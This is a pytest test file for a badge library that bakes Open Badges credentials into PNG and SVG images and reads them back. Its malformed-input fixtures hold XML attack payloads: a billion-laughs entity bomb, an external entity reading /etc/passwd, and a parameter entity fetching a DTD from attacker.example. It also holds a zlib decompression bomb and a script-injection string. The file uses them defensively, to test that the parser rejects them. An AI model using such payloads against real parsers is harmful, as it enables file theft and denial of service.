"""Baking credentials into badge images and reading them back, and the PNG badge itself."""

from __future__ import annotations

import functools
import io
import json
import random
import struct
import zlib

import pytest
from defusedxml.ElementTree import fromstring
from PIL import Image

from badges.catalogue.images import DOMAIN_COLOURS, badge_png, badge_svg
from badges.credentials.baking import (
    MAX_INPUT_BYTES,
    OB2_KEYWORD,
    OB3_KEYWORD,
    BakedImageError,
    bake_png,
    bake_svg,
    bake_svg_ob2,
    extract_any,
    extract_png,
    extract_svg,
)

JWS = "eyJhbGciOiJFZERTQSIsInR5cCI6IkpXVCJ9.eyJpc3MiOiJodHRwczovL2V4YW1wbGUub3JnIn0.c2lnbmF0dXJl"
OTHER_JWS = "eyJhbGciOiJFZERTQSJ9.eyJzdWIiOiJvdGhlciJ9.b3RoZXI"
CREDENTIAL = json.dumps({"type": ["VerifiableCredential", "OpenBadgeCredential"], "name": "Équité ]]> ok"})
ASSERTION_URL = "https://badges.example.org/ob2/assertions/7"
ASSERTION = json.dumps({"id": ASSERTION_URL, "type": "Assertion"})
SVG_NS = "{http://www.w3.org/2000/svg}"
OB3_NS = "https://purl.imsglobal.org/ob/v3p0"
OB2_NS = "http://openbadges.org"


@pytest.fixture(scope="module")
def png():
    return badge_png(2, "Planning and preparation", 3, "Proficient")


@pytest.fixture(scope="module")
def svg():
    return badge_svg(2, "Planning and preparation", 3, "Proficient")


def chunks(data: bytes) -> list[tuple[bytes, bytes]]:
    """(type, data) of every chunk, read independently of the module under test."""
    out, offset = [], 8
    while offset < len(data):
        length, kind = struct.unpack(">I4s", data[offset : offset + 8])
        out.append((kind, data[offset + 8 : offset + 8 + length]))
        offset += 12 + length
    return out


def chunk(kind: bytes, data: bytes, crc: int | None = None) -> bytes:
    crc = zlib.crc32(kind + data) if crc is None else crc
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", crc)


def with_chunk(png: bytes, extra: bytes) -> bytes:
    """The PNG with extra bytes just before its IEND chunk (the last 12 bytes)."""
    return png[:-12] + extra + png[-12:]


def itxt(keyword: str, text: bytes, compressed: bool = False) -> bytes:
    return keyword.encode() + b"\0" + bytes([int(compressed), 0]) + b"\0\0" + text


# --- PNG ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(("keyword", "text"), [(OB3_KEYWORD, JWS), (OB3_KEYWORD, CREDENTIAL), (OB2_KEYWORD, ASSERTION)])
def test_png_round_trip(png, keyword, text):
    assert extract_png(bake_png(png, keyword, text)) == {keyword: text}


def test_png_carries_both_versions(png):
    baked = bake_png(bake_png(png, OB3_KEYWORD, JWS), OB2_KEYWORD, ASSERTION)
    assert extract_png(baked) == {OB3_KEYWORD: JWS, OB2_KEYWORD: ASSERTION}
    assert extract_any(baked) == {OB3_KEYWORD: JWS, OB2_KEYWORD: ASSERTION}


def test_png_chunk_is_uncompressed_itxt_before_iend_with_a_correct_crc(png):
    baked = bake_png(png, OB3_KEYWORD, JWS)
    kinds = [kind for kind, _ in chunks(baked)]
    assert kinds[0] == b"IHDR" and kinds[-2:] == [b"iTXt", b"IEND"]
    assert chunks(baked)[-2][1] == b"openbadgecredential\0\0\0\0\0" + JWS.encode()
    assert baked[:-12].endswith(struct.pack(">I", zlib.crc32(b"iTXt" + chunks(baked)[-2][1])))
    assert chunks(baked)[:-2] == chunks(png)[:-1]


def test_rebaking_replaces_the_chunk_and_a_legacy_text_chunk(png):
    legacy = with_chunk(png, chunk(b"tEXt", b"openbadges\0" + ASSERTION_URL.encode()))
    assert extract_png(legacy) == {OB2_KEYWORD: ASSERTION_URL}
    baked = bake_png(bake_png(legacy, OB2_KEYWORD, ASSERTION), OB3_KEYWORD, JWS)
    baked = bake_png(baked, OB3_KEYWORD, OTHER_JWS)
    texts = [data.split(b"\0")[0] for kind, data in chunks(baked) if kind in (b"iTXt", b"tEXt")]
    assert sorted(texts) == [b"openbadgecredential", b"openbadges"]
    assert extract_png(baked) == {OB3_KEYWORD: OTHER_JWS, OB2_KEYWORD: ASSERTION}


def test_baked_png_is_still_a_png_that_pillow_reads(png):
    baked = bake_png(png, OB3_KEYWORD, JWS)
    with Image.open(io.BytesIO(baked)) as image:
        image.verify()
    with Image.open(io.BytesIO(baked)) as image:
        image.load()
        assert image.size == (240, 280)
        assert image.text[OB3_KEYWORD] == JWS


def test_a_compressed_itxt_chunk_is_read(png):
    data = with_chunk(png, chunk(b"iTXt", itxt(OB3_KEYWORD, zlib.compress(JWS.encode()), compressed=True)))
    assert extract_png(data) == {OB3_KEYWORD: JWS}


def test_the_first_itxt_chunk_wins_and_other_keywords_are_ignored(png):
    data = with_chunk(
        png,
        chunk(b"iTXt", itxt("Comment", b"\xff not utf-8", compressed=True))
        + chunk(b"iTXt", itxt(OB3_KEYWORD, JWS.encode()))
        + chunk(b"iTXt", itxt(OB3_KEYWORD, OTHER_JWS.encode())),
    )
    assert extract_png(data) == {OB3_KEYWORD: JWS}


def test_an_unbaked_png_holds_nothing(png):
    assert extract_png(png) == {}


BOMB = zlib.compress(bytes(20 * 2**20), 9)  # 20 MiB of zeros in about 20 KiB


@functools.cache
def bad_pngs(png: bytes) -> dict[str, tuple[bytes, str]]:
    crc_flipped = bytearray(png)
    crc_flipped[29] ^= 1  # the IHDR CRC
    text_changed = bytearray(bake_png(png, OB3_KEYWORD, JWS))
    text_changed[-12 - 4 - 1] ^= 1  # the last byte of the baked text, before its CRC and IEND
    return {
        "empty": (b"", "signature"),
        "garbage": (b"GIF89a" + bytes(64), "signature"),
        "signature only": (png[:8], "truncated"),
        "truncated inside a chunk": (png[: len(png) // 2], "truncated"),
        "no IEND": (png[:-12], "truncated"),
        "wrong CRC": (bytes(crc_flipped), "wrong CRC"),
        "text changed after baking": (bytes(text_changed), "iTXt chunk at byte \\d+ has a wrong CRC"),
        "oversize": (png + bytes(MAX_INPUT_BYTES), "larger than"),
        "too many chunks": (with_chunk(png, chunk(b"tEXt", b"a\0b") * 5000), "more than 4096 chunks"),
        "no IHDR first": (png[:8] + chunk(b"tEXt", b"a\0b") + png[8:], "IHDR"),
        "invalid chunk type": (png[:8] + chunk(b"I\0DR", b"") + png[8:], "invalid type"),
        "huge length": (png[:8] + b"\xff\xff\xff\xffIHDR" + png[16:], "runs past the end"),
        "itxt bomb": (
            with_chunk(png, chunk(b"iTXt", itxt(OB3_KEYWORD, BOMB, compressed=True))),
            "expands past",
        ),
        "corrupt compressed itxt": (
            with_chunk(png, chunk(b"iTXt", itxt(OB3_KEYWORD, b"not zlib", compressed=True))),
            "corrupt",
        ),
        "truncated compressed itxt": (
            with_chunk(png, chunk(b"iTXt", itxt(OB3_KEYWORD, zlib.compress(JWS.encode())[:-6], compressed=True))),
            "truncated",
        ),
        "unknown compression": (
            with_chunk(png, chunk(b"iTXt", OB3_KEYWORD.encode() + b"\0\x02\x00\0\0x")),
            "compression",
        ),
        "no compression fields": (with_chunk(png, chunk(b"iTXt", OB3_KEYWORD.encode() + b"\0")), "malformed"),
        "no language tag": (with_chunk(png, chunk(b"iTXt", OB3_KEYWORD.encode() + b"\0\0\0en")), "malformed"),
        "text not utf-8": (with_chunk(png, chunk(b"iTXt", itxt(OB3_KEYWORD, b"\xff\xfe"))), "not UTF-8"),
    }


@pytest.mark.parametrize(
    "case",
    list(bad_pngs(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes(13)) + chunk(b"IEND", b""))),
)
def test_a_bad_png_is_a_baked_image_error_with_a_clear_message(png, case):
    data, message = bad_pngs(png)[case]
    with pytest.raises(BakedImageError, match=message):
        extract_png(data)
    with pytest.raises(BakedImageError):
        extract_any(data)


def test_any_truncation_or_corruption_of_a_baked_png_is_only_ever_a_baked_image_error(png):
    baked = bake_png(bake_png(png, OB3_KEYWORD, JWS), OB2_KEYWORD, ASSERTION)
    damaged = [baked[:cut] for cut in range(0, len(baked), 7)]
    rng = random.Random(20240601)
    for _ in range(500):
        copy = bytearray(baked)
        for _ in range(rng.randint(1, 4)):
            copy[rng.randrange(len(copy))] = rng.randrange(256)
        damaged.append(bytes(copy))
    for data in damaged:
        try:
            assert isinstance(extract_png(data), dict)
        except BakedImageError:
            pass


def test_bake_png_refuses_what_the_specs_do_not_allow(png):
    with pytest.raises(ValueError, match="keyword"):
        bake_png(png, "Comment", JWS)
    with pytest.raises(ValueError, match="neither a compact JWS nor a JSON object"):
        bake_png(png, OB3_KEYWORD, "hello")
    with pytest.raises(ValueError):
        bake_png(png, OB3_KEYWORD, "[1, 2]")
    with pytest.raises(BakedImageError, match="signature"):
        bake_png(b"<svg/>", OB3_KEYWORD, JWS)


# --- SVG ---------------------------------------------------------------------------------------


def first_child(baked: str):
    root = fromstring(baked.encode())
    assert root.tag == f"{SVG_NS}svg"
    return root[0]


def test_svg_jws_form_follows_ob3(svg):
    baked = bake_svg(svg, JWS)
    assert 'xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"' in baked
    assert f'<openbadges:credential verify="{JWS}"></openbadges:credential>' in baked
    assert first_child(baked).tag == f"{{{OB3_NS}}}credential"
    assert extract_svg(baked.encode()) == {OB3_KEYWORD: JWS}


def test_svg_embedded_proof_form_is_json_in_cdata(svg):
    baked = bake_svg(svg, credential_json=CREDENTIAL)
    element = first_child(baked)
    assert "verify" not in element.attrib
    assert "<openbadges:credential><![CDATA[" in baked
    assert json.loads(extract_svg(baked.encode())[OB3_KEYWORD]) == json.loads(CREDENTIAL)


def test_svg_ob2_forms(svg):
    hosted = bake_svg_ob2(svg, ASSERTION_URL, ASSERTION)
    assert 'xmlns:openbadges="http://openbadges.org"' in hosted
    assert first_child(hosted).tag == f"{{{OB2_NS}}}assertion"
    assert first_child(hosted).get("verify") == ASSERTION_URL
    assert extract_svg(hosted.encode()) == {OB2_KEYWORD: ASSERTION}
    signed = bake_svg_ob2(svg, JWS)
    assert f'<openbadges:assertion verify="{JWS}"/>' in signed
    assert extract_any(signed.encode()) == {OB2_KEYWORD: JWS}


def test_svg_rebaking_replaces(svg):
    baked = bake_svg(bake_svg_ob2(bake_svg(svg, JWS), ASSERTION_URL, ASSERTION), OTHER_JWS)
    assert baked.count("openbadges:credential") == 2 and "openbadges:assertion" not in baked
    assert baked.count("xmlns:openbadges") == 1
    assert extract_svg(baked.encode()) == {OB3_KEYWORD: OTHER_JWS}
    assert "\n  \n" not in baked


def test_baked_svg_keeps_the_image(svg):
    baked = bake_svg(svg, JWS)
    root = fromstring(baked.encode())
    assert [child.tag for child in root][1:] == [child.tag for child in fromstring(svg.encode())]
    assert extract_svg(svg.encode()) == {}


def test_bake_svg_needs_exactly_one_well_formed_credential(svg):
    with pytest.raises(ValueError):
        bake_svg(svg)
    with pytest.raises(ValueError):
        bake_svg(svg, JWS, credential_json=CREDENTIAL)
    with pytest.raises(ValueError, match="compact JWS"):
        bake_svg(svg, '"><script>')
    with pytest.raises(BakedImageError, match="root element"):
        bake_svg("<html/>", JWS)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential verify="&d;"></openbadges:credential></svg>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg"><title>&secret;</title></svg>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""
SVG_OPEN = b'<svg xmlns="http://www.w3.org/2000/svg">'

BAD_SVGS = {
    "billion laughs": (BILLION_LAUGHS, "entities"),
    "external entity": (EXTERNAL_ENTITY, "entities"),
    "external parameter entity": (PARAMETER_ENTITY, "entities|external"),
    "undefined entity": (SVG_OPEN + b"&nope;</svg>", "well-formed"),
    "not well-formed": (SVG_OPEN + b"<g></svg>", "well-formed"),
    "truncated": (SVG_OPEN + b"<g>", "well-formed"),
    "not svg": (b"<html><svg/></html>", "not an SVG"),
    "svg without its namespace": (b"<svg></svg>", "not an SVG"),
    "oversize": (SVG_OPEN + b" " * MAX_INPUT_BYTES + b"</svg>", "larger than"),
    "too deep": (SVG_OPEN + b"<g>" * 200 + b"</g>" * 200 + b"</svg>", "levels"),
    "too many elements": (SVG_OPEN + b"<g/>" * 60_000 + b"</svg>", "elements"),
    "empty credential": (
        SVG_OPEN[:-1] + b' xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0"><openbadges:credential/></svg>',
        "empty",
    ),
    "unbound prefix": (SVG_OPEN + b"<openbadges:credential verify='a.b.c'/></svg>", "well-formed"),
    "unknown encoding": (b'<?xml version="1.0" encoding="x-nope"?>' + SVG_OPEN + b"</svg>", "encoding 'x-nope'"),
    "not a text encoding": (b"<?xml version='1.0' encoding='rot13'?>" + SVG_OPEN + b"</svg>", "not supported"),
    "multi-byte encoding": (b'<?xml version="1.0" encoding="UTF-32"?>' + SVG_OPEN + b"</svg>", "not supported"),
    "not utf-8": (SVG_OPEN + b"<title>\xe9</title></svg>", "not valid utf-8"),
}


@pytest.mark.parametrize("case", list(BAD_SVGS))
def test_a_bad_svg_is_a_baked_image_error_with_a_clear_message(case):
    data, message = BAD_SVGS[case]
    with pytest.raises(BakedImageError, match=message):
        extract_svg(data)
    with pytest.raises(BakedImageError):
        extract_any(data)


def test_svg_in_latin_1_or_as_text_is_read():
    baked = bake_svg('<svg xmlns="http://www.w3.org/2000/svg"><title>Pr\u00e9paration</title></svg>', JWS)
    latin = baked.replace('encoding="UTF-8"', 'encoding="ISO-8859-1"').encode("latin-1")
    assert extract_svg(latin) == {OB3_KEYWORD: JWS}
    assert extract_svg(baked) == {OB3_KEYWORD: JWS}
    assert "Pr\u00e9paration</title>" in bake_svg(latin, OTHER_JWS)


def test_any_truncation_of_a_baked_svg_is_only_ever_a_baked_image_error(svg):
    baked = bake_svg(svg, credential_json=CREDENTIAL).encode()
    for cut in range(0, len(baked), 3):
        try:
            extract_svg(baked[:cut])
        except BakedImageError:
            pass


# --- dispatch and the PNG badge ------------------------------------------------------------------


@pytest.mark.parametrize(
    "data", [b"", b"GIF89a\x01\x00", b"\xff\xd8\xff\xe0JFIF", b"just text", b"%PDF-1.7", b"\x89PNX"]
)
def test_extract_any_refuses_what_is_not_a_badge_image(data):
    with pytest.raises(BakedImageError, match="not a PNG or SVG badge image"):
        extract_any(data)


def test_extract_any_sniffs_the_content(png, svg):
    assert extract_any(bake_png(png, OB3_KEYWORD, JWS)) == {OB3_KEYWORD: JWS}
    assert extract_any(b"\xef\xbb\xbf" + bake_svg(svg, JWS).encode()) == {OB3_KEYWORD: JWS}
    with pytest.raises(BakedImageError, match="bytes"):
        extract_any(bake_svg(svg, JWS))


@pytest.mark.parametrize("level", [1, 2, 3, 4])
def test_badge_png_is_a_240_by_280_shield_in_the_domain_colour(level):
    data = badge_png(5, "Équité et diversité — naïve “quotes”", level, "Level name", "delivery-operations")
    with Image.open(io.BytesIO(data)) as image:
        assert image.format == "PNG" and image.size == (240, 280) and image.mode == "RGBA"
        colour = DOMAIN_COLOURS["delivery-operations"]
        assert image.getpixel((22, 140)) == (*bytes.fromhex(colour[1:]), 255)
        assert image.getpixel((2, 2))[3] == 0


def test_badge_png_differs_per_level_and_is_deterministic():
    images = {badge_png(1, "Domain", level, "Name") for level in range(1, 5)}
    assert len(images) == 4
    assert badge_png(1, "Domain", 2, "Name") == badge_png(1, "Domain", 2, "Name")
    assert badge_png(1, "Domain", 2, "Name") != badge_png(2, "Domain", 2, "Name")
    assert badge_png(1, "x" * 200, 9, "y" * 200)  # long text and an unknown level still draw
